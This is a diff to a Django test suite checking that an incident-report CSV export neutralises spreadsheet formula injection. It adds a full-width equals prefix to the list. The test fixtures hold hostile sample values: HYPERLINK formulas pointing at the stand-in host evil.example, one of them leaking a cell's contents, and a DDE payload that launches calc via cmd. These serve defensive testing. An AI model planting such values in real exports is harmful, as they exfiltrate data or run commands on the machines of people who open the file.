@@ -6,8 +6,9 @@ import logging
 
 from django.http import StreamingHttpResponse
 
+from conduct.csv_safe import neutralise
 from incidents.models import BreachCategory, Person
-from reports.exports import HEADER, neutralise
+from reports.exports import HEADER
 
 
 def _rows(response) -> list[dict]:
@@ -99,10 +100,12 @@ def test_a_bad_filter_is_refused(client_as):
     assert client_as("head").get("/reports/incidents.csv", {"date_from": "not a date"}).status_code == 400
 
 
-def test_cells_that_a_spreadsheet_would_run_are_neutralised(build, client_as):
-    for start in ("=", "+", "-", "@", "\t", "\r"):
+def test_cells_that_a_spreadsheet_would_run_are_neutralised(build, client_as, school):
+    for start in ("=", "+", "-", "@", "\t", "\r", "\uff1d"):
         assert neutralise(f"{start}1+1") == f"'{start}1+1"
     assert neutralise("Pat") == "Pat" and neutralise("") == "" and neutralise(None) == ""
+    school.name = "\uff1dHYPERLINK(\"http://evil.example/\")"  # full-width equals: a formula to some spreadsheets
+    school.save()
     person = build.person(name='=HYPERLINK("http://evil.example/?"&A1,"Click")')
     witness = build.person(name="@SUM(1+1)*cmd|' /C calc'!A0")
     from incidents.models import IncidentPerson, Involvement
@@ -112,7 +115,8 @@ def test_cells_that_a_spreadsheet_would_run_are_neutralised(build, client_as):
     [row] = _rows(client_as("head").get("/reports/incidents.csv"))
     assert row["Subjects"] == "'" + person.full_name
     assert row["Witnesses"] == "'" + witness.full_name
-    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
+    assert row["School"] == "'" + school.name
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")) for value in row.values())
 
 
 def test_every_export_is_audited_with_who_and_which_filters(build, client_as, personas, caplog):
